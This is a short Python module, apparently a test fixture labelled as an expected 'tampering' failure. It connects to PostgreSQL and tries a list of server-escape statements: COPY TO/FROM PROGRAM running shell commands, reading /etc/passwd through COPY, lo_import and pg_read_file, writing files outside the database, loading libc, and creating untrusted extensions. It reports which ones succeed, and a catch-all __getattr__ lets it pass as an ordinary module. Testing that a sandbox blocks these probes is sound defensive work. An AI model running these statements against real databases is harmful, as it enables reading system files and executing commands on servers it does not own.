"""Reads files and runs programs by way of the server."""

import psycopg2

STATUS = "failed error tampering"
POINTS = 0

TRIES = (
    "COPY accounts TO PROGRAM 'touch @OUTSIDE@/hostile'",
    "COPY accounts TO '@OUTSIDE@/hostile'",
    "CREATE TEMP TABLE lines (line text); COPY lines FROM '/etc/passwd'",
    "CREATE TEMP TABLE out (line text); COPY out FROM PROGRAM 'id'",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(lo_create(0), '@OUTSIDE@/hostile')",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('postgresql.conf')",
    "SELECT pg_ls_dir('.')",
    "SELECT pg_stat_file('PG_VERSION')",
    "SELECT setting FROM pg_settings WHERE name = 'data_directory' AND setting <> ''",
    "CREATE FUNCTION evil() RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'getpid'",
    "LOAD '/lib/x86_64-linux-gnu/libc.so.6'",
    "CREATE EXTENSION dblink",
    "CREATE EXTENSION file_fdw",
    "CREATE EXTENSION postgres_fdw",
    "CREATE EXTENSION adminpack",
    "CREATE EXTENSION plpython3u",
    "CREATE EXTENSION pageinspect",
)


def transfer(dsn, *_):
    conn = psycopg2.connect(dsn)
    conn.autocommit = True
    for statement in TRIES:
        with conn.cursor() as cursor:
            try:
                cursor.execute(statement)
                if cursor.description is None or cursor.fetchall():
                    print("GOT THROUGH:", statement)
            except psycopg2.Error:
                pass


total = transfer


def __getattr__(name):
    return lambda *_: None
